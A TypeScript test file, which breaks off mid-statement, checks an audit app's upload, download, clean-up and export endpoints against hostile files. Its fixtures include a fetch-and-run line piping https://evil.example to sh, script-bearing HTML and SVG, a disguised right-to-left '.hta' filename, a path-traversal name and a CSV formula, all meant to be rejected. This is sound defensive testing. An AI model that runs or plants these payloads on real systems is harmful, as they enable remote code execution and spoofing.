import { createHash, randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { execFileSync } from 'node:child_process'
import { readdir, readFile, rm, utimes, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { sql } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AuditRequest, RequestDetail, RequestFile } from '@shared/schemas/requests'
import { selectRows } from '../../db/client'
import {
  createAudit,
  createProject,
  expectError,
  expectValidation,
  signedInClientUser,
  uploadFiles,
} from '../../test/factories'
import { APP_URL, createTestApp, signedInAdmin, type TestApp } from '../../test/harness'
import { multipartBody, readZip, type UploadFile } from '../../test/multipart'
import { compoundFile, docxPackage, zipArchive } from '../../test/office-files'
import { abandonedAfterMs, removeAbandonedFiles } from './files.service'

const MAX_BYTES = Math.floor(0.01 * 1024 * 1024)

let t: TestApp
let admin: string
let orgId: string
let projectId: string
let member: Awaited<ReturnType<typeof signedInClientUser>>
let colleague: Awaited<ReturnType<typeof signedInClientUser>>
let otherClientUser: Awaited<ReturnType<typeof signedInClientUser>>
let otherCompany: string
let clientName: string

beforeAll(async () => {
  t = await createTestApp({
    env: { UPLOAD_MAX_FILE_MB: '0.01', UPLOAD_MAX_FILES_PER_REQUEST: '3' },
  })
  const a = await signedInAdmin(t)
  admin = a.cookie
  orgId = a.user.company.id
  const project = await createProject(t, admin)
  projectId = project.id
  clientName = project.clientName ?? ''
  member = await signedInClientUser(t, orgId, project.clientId)
  colleague = await signedInClientUser(t, orgId, project.clientId)
  otherClientUser = await signedInClientUser(t, orgId)
  otherCompany = (await signedInAdmin(t)).cookie
})
afterAll(async () => t?.close())

const PDF = Buffer.concat([
  Buffer.from('%PDF-1.7\n'),
  Buffer.alloc(200, 0x20),
  Buffer.from('%%EOF\n'),
])
const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.alloc(64, 7),
])
const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(100, 0x90), Buffer.from([0, 0, 0])])
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex')

const call = (cookie: string, method: 'GET' | 'POST' | 'DELETE', url: string, body?: unknown) =>
  t.request(method, url, { cookie, body })

const upload = (cookie: string, requestId: string, files: UploadFile[]) =>
  uploadFiles(t, cookie, requestId, files)

async function uploaded(cookie: string, requestId: string, files: UploadFile[]) {
  const res = await upload(cookie, requestId, files)
  expect(res.statusCode, res.body).toBe(201)
  return res.json<RequestFile[]>()
}

const detail = async (id: string, cookie = admin) => {
  const res = await call(cookie, 'GET', `/api/requests/${id}`)
  expect(res.statusCode, res.body).toBe(200)
  return res.json<RequestDetail>()
}

async function sentRequest(flags: Record<string, unknown> = {}, auditId?: string) {
  const audit = auditId ?? (await createAudit(t, admin, { projectId })).id
  const created = await call(admin, 'POST', `/api/audits/${audit}/requests`, {
    title: 'Bank statements',
    assigneeId: member.user.id,
    ...flags,
  })
  expect(created.statusCode, created.body).toBe(201)
  const request = created.json<AuditRequest>()
  const sent = await call(admin, 'POST', `/api/audits/${audit}/send`, { requestIds: [request.id] })
  expect(sent.statusCode, sent.body).toBe(200)
  return { ...request, auditId: audit }
}

const filesDir = () => path.join(t.config.dataDir, 'files')
/** What the storage holds but the ownership marker. */
const storedFiles = () => t.storedKeys()
const storedKeys = async () =>
  (
    await selectRows<{ storage_key: string }>(t.app.db, sql`select storage_key from request_files`)
  ).map((row) => row.storage_key)
const logEvents = (event: string) =>
  t.logs
    .map((line) => JSON.parse(line) as Record<string, unknown>)
    .filter((entry) => entry.event === event)
const storageKeyOf = async (fileId: string) =>
  (
    await selectRows<{ storage_key: string }>(
      t.app.db,
      sql`select storage_key from request_files where id = ${fileId}`,
    )
  )[0]!.storage_key
const fileCount = async () =>
  (await selectRows<{ n: number }>(t.app.db, sql`select count(*)::int as n from request_files`))[0]!
    .n

describe('POST /api/requests/{id}/files', () => {
  it('stores each file under a generated name with its sniffed type, size and SHA-256, on the version being prepared', async () => {
    const request = await sentRequest()
    const files = await uploaded(member.cookie, request.id, [
      { name: 'statement.pdf', data: PDF, type: 'application/pdf' },
      { name: '../../etc/scan.png', data: PNG, type: 'image/png' },
    ])
    expect(files).toHaveLength(2)
    expect(files[0]).toMatchObject({
      fileName: 'statement.pdf',
      contentType: 'application/pdf',
      sizeBytes: PDF.length,
      sha256: sha256(PDF),
      uploadedBy: 'Clara Client',
      uploadedById: member.user.id,
    })
    expect(files[1]).toMatchObject({ fileName: 'scan.png', contentType: 'image/png' })
    const [version] = (await detail(request.id)).versions
    expect(version).toMatchObject({ number: 1, submittedAt: null })
    expect(version!.files.map((f) => f.id)).toEqual(files.map((f) => f.id))
    const [row] = await selectRows<{ storage_key: string; sha256: string }>(
      t.app.db,
      sql`select storage_key, sha256 from request_files where id = ${files[0]!.id}`,
    )
    expect(row!.sha256).toBe(sha256(PDF))
    expect(row!.storage_key).toMatch(/^[0-9a-f]{48}$/)
    expect(await storedFiles()).toContain(row!.storage_key)
  })

  it('names lose bidi, zero-width and control characters before they are stored or shown', async () => {
    const request = await sentRequest()
    const [file] = await uploaded(member.cookie, request.id, [
      { name: 'state\u200Bment\u202E\u2066 2024\u2069\u0007\uFEFF.pdf', data: PDF },
    ])
    expect(file!.fileName).toBe('statement 2024.pdf')
    const [row] = await selectRows<{ file_name: string }>(
      t.app.db,
      sql`select file_name from request_files where id = ${file!.id}`,
    )
    expect(row!.file_name).toBe('statement 2024.pdf')
    const history = (await detail(request.id)).history.at(-1)
    expect(history!.target).toBe('#1 Bank statements: statement 2024.pdf')
  })

  it('a file over the cap → 413 with a clear message, nothing kept; exactly the cap is fine', async () => {
    const request = await sentRequest()
    const before = await fileCount()
    const big = Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(MAX_BYTES - 4, 0x20)])
    const res = await upload(member.cookie, request.id, [
      { name: 'ok.pdf', data: PDF },
      { name: 'big.pdf', data: big },
    ])
    expect(expectError(res, 413, 'PAYLOAD_TOO_LARGE').message).toMatch(/at most 10\.2 KB/)
    expect(await fileCount()).toBe(before)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
    await uploaded(member.cookie, request.id, [
      { name: 'edge.pdf', data: big.subarray(0, MAX_BYTES) },
    ])
  })

  it('the type comes from the bytes: an executable named .pdf → 415; a PDF named .dat is a PDF', async () => {
    const request = await sentRequest()
    const before = await fileCount()
    const refused = await upload(member.cookie, request.id, [
      { name: 'invoice.pdf', data: EXE, type: 'application/pdf' },
    ])
    expect(expectError(refused, 415, 'UNSUPPORTED_MEDIA_TYPE').message).toMatch(/not accepted/)
    expect(await fileCount()).toBe(before)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
    const [pdf, csv, text, docx] = await uploaded(member.cookie, request.id, [
      { name: 'scan.dat', data: PDF, type: 'application/octet-stream' },
      { name: 'ledger.csv', data: Buffer.from('a,b\n1,2\n') },
      { name: 'notes.txt', data: Buffer.from('Grüße aus Zürich\n') },
    ]).then(async (first) => [
      ...first,
      ...(await uploaded(colleague.cookie, (await sentRequest()).id, [
        { name: 'report.docx', data: await docxPackage() },
      ])),
    ])
    expect(pdf).toMatchObject({ fileName: 'scan.dat.pdf', contentType: 'application/pdf' })
    expect(csv!.contentType).toBe('text/csv')
    expect(text!.contentType).toBe('text/plain')
    expect(docx!.contentType).toMatch(/wordprocessingml/)
    const binary = await upload(member.cookie, (await sentRequest()).id, [
      { name: 'data.txt', data: Buffer.from([0x41, 0x00, 0x42]) },
    ])
    expectError(binary, 415, 'UNSUPPORTED_MEDIA_TYPE')
  })

  it('refuses more files than a version may hold (413 at once, 409 beyond the total), and an empty form (400)', async () => {
    const request = await sentRequest()
    const four = Array.from({ length: 4 }, (_, i) => ({ name: `${i}.pdf`, data: PDF }))
    expectError(await upload(member.cookie, request.id, four), 413, 'PAYLOAD_TOO_LARGE')
    await uploaded(member.cookie, request.id, four.slice(0, 2))
    expectError(await upload(member.cookie, request.id, four.slice(0, 2)), 409, 'CONFLICT')
    expectValidation(await upload(member.cookie, request.id, []), ['files'])
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
  })

  it('multipart only on this route; JSON or text here → 415, a foreign Origin → 403', async () => {
    const request = await sentRequest()
    expectError(
      await t.request('POST', `/api/requests/${request.id}/files`, {
        cookie: member.cookie,
        body: { files: [] },
      }),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
    )
    const { payload, contentType } = multipartBody([{ name: 'a.pdf', data: PDF }])
    const foreign = await t.app.inject({
      method: 'POST',
      url: `/api/requests/${request.id}/files`,
      payload,
      headers: {
        origin: 'https://evil.example',
        cookie: member.cookie,
        'content-type': contentType,
      },
    })
    expectError(foreign, 403, 'FORBIDDEN')
    // Another route still refuses multipart.
    const elsewhere = await t.app.inject({
      method: 'POST',
      url: `/api/requests/${request.id}/comments`,
      payload,
      headers: { origin: APP_URL, cookie: member.cookie, 'content-type': contentType },
    })
    expectError(elsewhere, 415, 'UNSUPPORTED_MEDIA_TYPE')
  })

  /** Posts raw bytes as an upload with this Content-Type. */
  const rawUpload = (requestId: string, contentType: string, payload: Buffer) =>
    t.request('POST', `/api/requests/${requestId}/files`, {
      cookie: member.cookie,
      body: payload,
      headers: { 'content-type': contentType },
    })

  it('multipart without a boundary, or a malformed one → 400 saying so, nothing stored', async () => {
    const request = await sentRequest()
    const before = await fileCount()
    const { payload } = multipartBody([{ name: 'a.pdf', data: PDF }])
    for (const [contentType, problem] of [
      ['multipart/form-data', 'its boundary is missing'],
      ['multipart/form-data; charset=utf-8', 'its boundary is missing'],
      ['multipart/form-data; boundary', 'its boundary is missing'],
      ['multipart/form-data; boundary=', 'its boundary is not valid'],
      ['multipart/form-data; boundary=""', 'its boundary is not valid'],
      [`multipart/form-data; boundary=${'x'.repeat(71)}`, 'its boundary is not valid'],
      [`multipart/form-data; boundary=${'x'.repeat(300)}`, 'its boundary is not valid'],
      ['multipart/form-data; boundary=a{b}', 'its boundary is not valid'],
    ]) {
      const res = await rawUpload(request.id, contentType!, payload)
      expect(expectError(res, 400, 'BAD_REQUEST').message, contentType).toBe(
        `The upload is not valid multipart/form-data: ${problem}`,
      )
    }
    expect(await fileCount()).toBe(before)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
  })

  it('a body cut short, with another boundary, or without parts → 4xx, nothing stored, nothing logged as a failure', async () => {
    const request = await sentRequest()
    const before = await fileCount()
    const from = t.logs.length
    const { payload, contentType } = multipartBody([
      { name: 'a.pdf', data: PDF },
      { name: 'b.png', data: PNG },
    ])
    const boundary = contentType.split('boundary=')[1]!
    const part = `--${boundary}\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\nhello\r\n`
    const cutShort = /it was cut short, or its parts do not match its boundary$/
    for (const [label, type, body, expected] of [
      ['cut in the second file', contentType, payload.subarray(0, payload.length - 40), cutShort],
      ['cut in a part’s headers', contentType, payload.subarray(0, 60), cutShort],
      ['no closing boundary', contentType, Buffer.from(part), cutShort],
      ['another boundary', 'multipart/form-data; boundary=other', payload, cutShort],
      ['not multipart at all', contentType, Buffer.from('hello world'), cutShort],
      [
        'only the closing boundary',
        contentType,
        Buffer.from(`--${boundary}--\r\n`),
        /at least one/,
      ],
      ['an empty body', contentType, Buffer.alloc(0), /at least one/],
      [
        'a part without Content-Disposition',
        contentType,
        Buffer.from(`--${boundary}\r\nContent-Type: text/plain\r\n\r\nx\r\n--${boundary}--\r\n`),
        /at least one/,
      ],
    ] as const) {
      const res = await rawUpload(request.id, type, body)
      expect(res.statusCode, `${label}: ${res.body}`).toBe(400)
      expect(res.json<{ message: string }>().message, label).toMatch(expected)
    }
    expect(await fileCount()).toBe(before)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
    const failures = t.logs
      .slice(from)
      .map((line) => JSON.parse(line) as { level: number })
      .filter((line) => line.level >= 50)
    expect(failures).toEqual([])
  })

  it('fuzzed multipart bodies (cut, bytes changed, bytes inserted, boundary changed) never get a 5xx, and a refused one keeps nothing', async () => {
    const { payload, contentType } = multipartBody([
      { name: 'a.pdf', data: PDF },
      { name: 'b.txt', data: Buffer.from('plain text\n') },
    ])
    const boundary = contentType.split('boundary=')[1]!
    const mutation = fc.oneof(
      fc.nat(payload.length).map((at) => ({ body: payload.subarray(0, at), type: contentType })),
      fc.tuple(fc.nat(payload.length - 1), fc.integer({ min: 0, max: 255 })).map(([at, byte]) => {
        const body = Buffer.from(payload)
        body[at] = byte
        return { body, type: contentType }
      }),
      fc
        .tuple(fc.nat(payload.length), fc.uint8Array({ minLength: 1, maxLength: 40 }))
        .map(([at, bytes]) => ({
          body: Buffer.concat([payload.subarray(0, at), Buffer.from(bytes), payload.subarray(at)]),
          type: contentType,
        })),
      fc.string({ maxLength: 80 }).map((other) => ({
        body: payload,
        type: `multipart/form-data; boundary=${other}`,
      })),
      fc.nat(boundary.length - 1).map((cut) => ({
        body: payload,
        type: `multipart/form-data; boundary=${boundary.slice(0, cut)}`,
      })),
    )
    const request = await sentRequest()
    await fc.assert(
      fc.asyncProperty(mutation, async ({ body, type }) => {
        const before = await fileCount()
        const res = await rawUpload(request.id, type, body)
        expect(res.statusCode, res.body).toBeLessThan(500)
        if (res.statusCode >= 400) {
          expectError(res, res.statusCode, res.json<{ code: string }>().code)
          expect(await fileCount()).toBe(before)
        }
        expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
        // Room for the next run: a mutation that left the body readable uploaded its files.
        if (res.statusCode === 201)
          for (const file of res.json<RequestFile[]>())
            await call(member.cookie, 'DELETE', `/api/files/${file.id}`)
      }),
      { numRuns: 40 },
    )
  })

  it('who: staff 403; another client’s user and another company 404; drafts 404; after submission 409', async () => {
    const request = await sentRequest()
    const file = [{ name: 'a.pdf', data: PDF }]
    expectError(await upload(admin, request.id, file), 403, 'FORBIDDEN')
    expectError(await upload(otherClientUser.cookie, request.id, file), 404, 'NOT_FOUND')
    expectError(await upload(otherCompany, request.id, file), 403, 'FORBIDDEN')
    const audit = await createAudit(t, admin, { projectId })
    const draft = await call(admin, 'POST', `/api/audits/${audit.id}/requests`, { title: 'D' })
    expectError(await upload(member.cookie, draft.json<AuditRequest>().id, file), 404, 'NOT_FOUND')
    await uploaded(member.cookie, request.id, file)
    const submitted = await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
    expect(submitted.statusCode, submitted.body).toBe(200)
    expectError(await upload(member.cookie, request.id, file), 409, 'CONFLICT')
  })
})

describe('what may be uploaded', () => {
  const REFUSED = /^Scripts, web pages, SVG images and macro-enabled Office files are not accepted$/
  const text = (value: string) => Buffer.from(value, 'utf8')

  async function expectRefused(files: UploadFile[], message: RegExp | string = REFUSED) {
    const request = await sentRequest()
    const before = await fileCount()
    const res = await upload(member.cookie, request.id, files)
    expect(expectError(res, 415, 'UNSUPPORTED_MEDIA_TYPE').message, files.at(-1)!.name).toMatch(
      message,
    )
    expect(await fileCount()).toBe(before)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
  }

  it('scripts, web pages and SVG by name → 415 and nothing stored, whatever the bytes', async () => {
    for (const name of [
      'invoice\u202Efdp.hta',
      'run.bat',
      'page.html',
      'logo.svg',
      'setup.ps1',
      'app.js',
      'Payload.JS',
    ])
      await expectRefused([{ name, data: text('echo hello\n'), type: 'text/plain' }])
    // Refused before its bytes are read: a file over the size cap gets 415, not 413.
    await expectRefused([{ name: 'big.hta', data: Buffer.alloc(MAX_BYTES * 2, 'a') }])
    // One refused file takes the request's other files with it.
    await expectRefused([
      { name: 'fine.pdf', data: PDF },
      { name: 'run.cmd', data: text('echo hello\n') },
    ])
  })

  it('web pages, SVG and scripts by their bytes → 415 and nothing stored, whatever the name', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for (const [name, content] of [
      ['notes.txt', '<!doctype html><html><script>alert(1)</script>'],
      ['chart.png', svg],
      ['chart.txt', `<?xml version="1.0" encoding="UTF-8"?>\n${svg}`],
      ['notes.txt', '#!/bin/sh\ncurl https://evil.example | sh\n'],
    ])
      await expectRefused([{ name: name!, data: text(content!) }])
  })

  it('macro-enabled Office files → 415 by name and by content (a vbaProject.bin entry far in, renamed too)', async () => {
    const xlsm = await zipArchive([
      { name: '[Content_Types].xml', data: text('<Types/>') },
      { name: 'xl/media/image1.bin', data: randomBytes(6000) },
      { name: 'xl/vbaProject.bin', data: compoundFile(['Root Entry', 'VBA', '_VBA_PROJECT']) },
    ])
    expect(xlsm.indexOf('vbaProject.bin')).toBeGreaterThan(4096)
    expect(xlsm.length).toBeLessThan(MAX_BYTES)
    for (const name of ['book.xlsm', 'book.xlsx', 'book.zip'])
      await expectRefused([{ name, data: xlsm }])
    await expectRefused([
      { name: 'letter.doc', data: compoundFile(['Root Entry', 'Macros', 'VBA', '_VBA_PROJECT']) },
    ])
  })

  it('an archive holding a script or an executable → 415 naming it; a clean archive and a .docx are accepted', async () => {
    const zip = (...names: string[]) => zipArchive(names.map((name) => ({ name, data: text('x') })))
    const inside = (archive: string, entry: string) =>
      `${archive} holds "${entry}": scripts, web pages, SVG images and macro-enabled Office files are not accepted, inside archives either`
    await expectRefused(
      [{ name: 'invoice.zip', data: await zip('invoice.pdf', 'invoice.pdf.hta') }],
      inside('invoice.zip', 'invoice.pdf.hta'),
    )
    await expectRefused(
      [
        { name: 'fine.pdf', data: PDF },
        { name: 'tools.zip', data: await zip('readme.txt', 'dir/run.EXE') },
      ],
      inside('tools.zip', 'dir/run.EXE'),
    )
    await expectRefused(
      [{ name: 'broken.zip', data: (await zip('a.pdf')).subarray(0, 60) }],
      /^broken\.zip cannot be opened: its list of contents is missing or damaged$/,
    )
    const [archive, docx] = await uploaded(member.cookie, (await sentRequest()).id, [
      { name: 'statements.zip', data: await zip('2024/Q1/statement.pdf', '2024/Q1/ledger.csv') },
      {
        name: 'letter.docx',
        data: await docxPackage([{ name: 'word/media/image1.svg', data: text('<svg/>') }]),
      },
    ])
    expect(archive).toMatchObject({ fileName: 'statements.zip', contentType: 'application/zip' })
    expect(docx).toMatchObject({ fileName: 'letter.docx' })
    expect(docx!.contentType).toMatch(/wordprocessingml/)
  })

  it('an OLE file not named as an office document (an installer renamed .dat) → 415', async () => {
    await expectRefused(
      [{ name: 'setup.dat', data: compoundFile(['Root Entry', 'Property', 'Binary']) }],
      /This type of file is not accepted/,
    )
  })

  it('the name served agrees with the bytes: text named .pdf is .pdf.txt, a PNG named .pdf is .pdf.png', async () => {
    const request = await sentRequest()
    const notes = text('meeting notes\n')
    const [asText, asPng] = await uploaded(member.cookie, request.id, [
      { name: 'notes.pdf', data: notes, type: 'application/pdf' },
      { name: 'scan.pdf', data: PNG, type: 'application/pdf' },
    ])
    expect(asText).toMatchObject({ fileName: 'notes.pdf.txt', contentType: 'text/plain' })
    expect(asPng).toMatchObject({ fileName: 'scan.pdf.png', contentType: 'image/png' })
    for (const [file, type, data] of [
      [asText!, 'text/plain', notes],
      [asPng!, 'image/png', PNG],
    ] as const) {
      const res = await call(admin, 'GET', `/api/files/${file.id}`)
      expect(res.statusCode).toBe(200)
      expect(res.headers['content-type']).toBe(type)
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="${file.fileName}"; filename*=UTF-8''${file.fileName}`,
      )
      expect(res.rawPayload.equals(data)).toBe(true)
    }
  })

  it('names recorded before these rules are listed, downloaded and exported by the same rules', async () => {
    const audit = await createAudit(t, admin, { projectId })
    const request = await sentRequest({ title: 'Old' }, audit.id)
    const [file] = await uploaded(member.cookie, request.id, [
      { name: 'invoice.txt', data: text('total 12\n') },
    ])
    await t.app.db.execute(
      sql`update request_files set file_name = ${'invoice\u202Efdp.hta'} where id = ${file!.id}`,
    )
    const listed = (await detail(request.id)).versions[0]!.files[0]!
    expect(listed.fileName).toBe('invoicefdp.hta.txt')
    const res = await call(member.cookie, 'GET', `/api/files/${file!.id}`)
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="invoicefdp.hta.txt"; filename*=UTF-8''invoicefdp.hta.txt`,
    )
    await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
    await call(admin, 'POST', `/api/requests/${request.id}/accept`)
    const zip = await call(admin, 'GET', `/api/audits/${audit.id}/export.zip`)
    expect([...(await readZip(zip.rawPayload)).keys()]).toEqual([
      '1 Old/invoicefdp.hta.txt',
      'manifest.csv',
    ])
  })
})

describe('GET /api/files/{id}', () => {
  it('sends the bytes as an attachment with the sniffed type and nosniff, to staff and the client’s users', async () => {
    const request = await sentRequest()
    const [file] = await uploaded(member.cookie, request.id, [
      { name: 'Relevé “2024”.pdf', data: PDF, type: 'text/html' },
    ])
    for (const cookie of [member.cookie, colleague.cookie, admin]) {
      const res = await call(cookie, 'GET', `/api/files/${file!.id}`)
      expect(res.statusCode).toBe(200)
      expect(res.rawPayload.equals(PDF)).toBe(true)
      expect(res.headers['content-type']).toBe('application/pdf')
      expect(res.headers['x-content-type-options']).toBe('nosniff')
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="Relev_ _2024_.pdf"; filename*=UTF-8''Relev%C3%A9%20%E2%80%9C2024%E2%80%9D.pdf`,
      )
    }
    // Who read which file is in the server log (a GET changes nothing, so not in the activity).
    expect(logEvents('file.downloaded')).toContainEqual(
      expect.objectContaining({ fileId: file!.id, userId: colleague.user.id }),
    )
  })

  it('another client’s file or another company’s → 404, like a missing one', async () => {
    const request = await sentRequest()
    const [file] = await uploaded(member.cookie, request.id, [{ name: 'a.pdf', data: PDF }])
    expectError(
      await call(otherClientUser.cookie, 'GET', `/api/files/${file!.id}`),
      404,
      'NOT_FOUND',
    )
    expectError(await call(otherCompany, 'GET', `/api/files/${file!.id}`), 404, 'NOT_FOUND')
    expectValidation(await call(admin, 'GET', '/api/files/not-an-id'), ['id'])
  })

  it('a recorded file gone from disk → 404 in the app’s error shape, logged as an error with its id', async () => {
    const request = await sentRequest()
    const [file] = await uploaded(member.cookie, request.id, [{ name: 'lost.pdf', data: PDF }])
    await t.removeStored(await storageKeyOf(file!.id))
    for (const cookie of [member.cookie, admin]) {
      const res = await call(cookie, 'GET', `/api/files/${file!.id}`)
      expect(res.json()).toEqual({ message: 'This file is no longer available', code: 'NOT_FOUND' })
      expect(res.statusCode).toBe(404)
      expect(res.headers['content-type']).toMatch(/^application\/json/)
      expect(res.headers['content-disposition']).toBeUndefined()
    }
    const logged = logEvents('file.missing').filter((entry) => entry.fileId === file!.id)
    expect(logged).toHaveLength(2)
    expect(logged[0]!.level).toBe(50)
    await call(admin, 'DELETE', `/api/audits/${request.auditId}`)
  })
})

describe('DELETE /api/files/{id}', () => {
  it('the uploader only (403 for a colleague, staff and others 403/404), and only before submission (409)', async () => {
    const request = await sentRequest()
    const [keep, drop] = await uploaded(member.cookie, request.id, [
      { name: 'keep.pdf', data: PDF },
      { name: 'drop.pdf', data: PDF },
    ])
    expectError(await call(colleague.cookie, 'DELETE', `/api/files/${drop!.id}`), 403, 'FORBIDDEN')
    expectError(await call(admin, 'DELETE', `/api/files/${drop!.id}`), 403, 'FORBIDDEN')
    expectError(
      await call(otherClientUser.cookie, 'DELETE', `/api/files/${drop!.id}`),
      404,
      'NOT_FOUND',
    )
    const keysBefore = await storedKeys()
    const removed = await call(member.cookie, 'DELETE', `/api/files/${drop!.id}`)
    expect(removed.statusCode, removed.body).toBe(204)
    expect((await storedFiles()).length).toBe(keysBefore.length - 1)
    expect((await storedFiles()).sort()).toEqual((await storedKeys()).sort())
    await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})
    expectError(await call(member.cookie, 'DELETE', `/api/files/${keep!.id}`), 409, 'CONFLICT')
  })
})

describe('files in the request’s history', () => {
  it('an upload and a removal are logged with who and which files; a refused upload logs nothing', async () => {
    const request = await sentRequest()
    const files = await uploaded(member.cookie, request.id, [
      { name: 'one.pdf', data: PDF },
      { name: 'two.png', data: PNG },
    ])
    expectError(
      await upload(colleague.cookie, request.id, [{ name: 'x.pdf', data: EXE }]),
      415,
      'UNSUPPORTED_MEDIA_TYPE',
    )
    expect((await call(member.cookie, 'DELETE', `/api/files/${files[1]!.id}`)).statusCode).toBe(204)
    const history = (await detail(request.id, colleague.cookie)).history.map(
      ({ actor, action, target }) => ({ actor, action, target }),
    )
    // After its creation and its sending:
    expect(history.slice(2)).toEqual([
      {
        actor: 'Clara Client',
        action: 'request.files_added',
        target: '#1 Bank statements: one.pdf, two.png',
      },
      {
        actor: 'Clara Client',
        action: 'request.file_removed',
        target: '#1 Bank statements: two.png',
      },
    ])
    const dashboard = await call(member.cookie, 'GET', '/api/dashboard')
    expect(
      dashboard.json<{ recentActivity: { action: string }[] }>().recentActivity[0],
    ).toMatchObject({ action: 'request.file_removed' })
  })
})

// Files made and aged on disk; the same clean-up on S3 is in files-s3.test.ts.
describe.skipIf(process.env.TEST_STORAGE === 's3')('abandoned files on disk', () => {
  it('an unfinished upload or unrecorded file older than the margin is removed; recorded and recent files stay', async () => {
    const request = await sentRequest()
    const [kept] = await uploaded(member.cookie, request.id, [{ name: 'kept.pdf', data: PDF }])
    const [row] = await selectRows<{ storage_key: string }>(
      t.app.db,
      sql`select storage_key from request_files where id = ${kept!.id}`,
    )
    const stale = new Date(t.clock().getTime() - abandonedAfterMs(t.app) - 60_000)
    const name = (suffix = '') => `${randomBytes(24).toString('hex')}${suffix}`
    const oldPart = name('.part')
    const oldOrphan = name()
    const freshPart = name('.part')
    const freshOrphan = name()
    for (const file of [oldPart, oldOrphan, freshPart, freshOrphan])
      await writeFile(path.join(filesDir(), file), 'x')
    for (const file of [oldPart, oldOrphan, row!.storage_key])
      await utimes(path.join(filesDir(), file), stale, stale)

    expect(await removeAbandonedFiles(t.app)).toBe(2)
    const left = await readdir(filesDir())
    expect(left).not.toContain(oldPart)
    expect(left).not.toContain(oldOrphan)
    expect(left).toEqual(expect.arrayContaining([row!.storage_key, freshPart, freshOrphan]))
    const download = await call(member.cookie, 'GET', `/api/files/${kept!.id}`)
    expect(download.rawPayload.equals(PDF)).toBe(true)
    await rm(path.join(filesDir(), freshPart))
    await rm(path.join(filesDir(), freshOrphan))
  })

  it('a folder claimed by another database keeps its unrecorded files; only unfinished uploads go', async () => {
    const marker = path.join(filesDir(), '.owner')
    const ours = await readFile(marker, 'utf8')
    await writeFile(marker, 'another database')
    const stale = new Date(t.clock().getTime() - abandonedAfterMs(t.app) - 60_000)
    const part = `${randomBytes(24).toString('hex')}.part`
    const theirs = randomBytes(24).toString('hex')
    for (const file of [part, theirs]) {
      await writeFile(path.join(filesDir(), file), 'x')
      await utimes(path.join(filesDir(), file), stale, stale)
    }
    try {
      expect(await removeAbandonedFiles(t.app)).toBe(1)
      const left = await readdir(filesDir())
      expect(left).not.toContain(part)
      expect(left).toContain(theirs)
      expect(logEvents('files.other_owner')).toHaveLength(1)
    } finally {
      await writeFile(marker, ours)
      await rm(path.join(filesDir(), theirs), { force: true })
    }
  })
})

describe('submitting with files', () => {
  it('a document-required request submits once it has a file; the files go with that version; a return starts version 2', async () => {
    const request = await sentRequest({ documentRequired: true })
    expectValidation(await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {}), [
      'files',
    ])
    const [file] = await uploaded(member.cookie, request.id, [{ name: 'a.pdf', data: PDF }])
    const submitted = await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {
      response: 'Attached',
    })
    expect(submitted.statusCode, submitted.body).toBe(200)
    let versions = (await detail(request.id)).versions
    expect(versions).toHaveLength(1)
    expect(versions[0]).toMatchObject({
      number: 1,
      response: 'Attached',
      submittedBy: 'Clara Client',
    })
    expect(versions[0]!.submittedAt).not.toBeNull()
    expect(versions[0]!.files.map((f) => f.id)).toEqual([file!.id])
    await call(admin, 'POST', `/api/requests/${request.id}/return`, { reason: 'Wrong year' })
    // Version 1's files do not count for the next submission.
    expectValidation(await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {}), [
      'files',
    ])
    const [second] = await uploaded(colleague.cookie, request.id, [{ name: 'b.png', data: PNG }])
    versions = (await detail(request.id, member.cookie)).versions
    expect(versions.map((v) => [v.number, v.submittedAt === null, v.files.length])).toEqual([
      [1, false, 1],
      [2, true, 1],
    ])
    expect(
      (await call(member.cookie, 'POST', `/api/requests/${request.id}/submit`, {})).statusCode,
    ).toBe(200)
    expect((await detail(request.id)).versions[1]!.files[0]!.id).toBe(second!.id)
  })
})

describe('exports', () => {
  it('CSV: one row per request with escaping and the formula guard; staff only', async () => {
    const audit = await createAudit(t, admin, { projectId, name: 'FY/2024 "Year end"' })
    const first = await sentRequest({ title: '=HYPERLINK("x")', dueDate: '2030-01-31' }, audit.id)
    await call(admin, 'POST', `/api/audits/${audit.id}/requests`, { title: 'Cash, petty' })
    await uploaded(member.cookie, first.id, [{ name: 'a.pdf', data: PDF }])
    await call(member.cookie, 'POST', `/api/requests/${first.id}/submit`, {
      response: 'See the PDF,\nall twelve months',
    })
    await call(admin, 'POST', `/api/requests/${first.id}/accept`)
    const res = await call(admin, 'GET', `/api/audits/${audit.id}/export.csv`)
    expect(res.statusCode, res.body).toBe(200)
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(res.headers['content-disposition']).toContain(
      'filename="FY-2024 _Year end_-requests.csv"',
    )
    // Days in the firm's time zone (UTC: the test firm's).
    const today = new Date(t.clock()).toISOString().slice(0, 10)
    expect(res.body).toBe(
      '\uFEFFNumber,Section,Reference,Title,Description,Status,Assignee,Due date,Sent,Submitted,Accepted,Versions,Answer type,Choices,Answer,Client\r\n' +
        `1,,,"'=HYPERLINK(""x"")",,Accepted,Clara Client,2030-01-31,${today},${today},${today},1,Written response,,"See the PDF,\nall twelve months",${clientName}\r\n` +
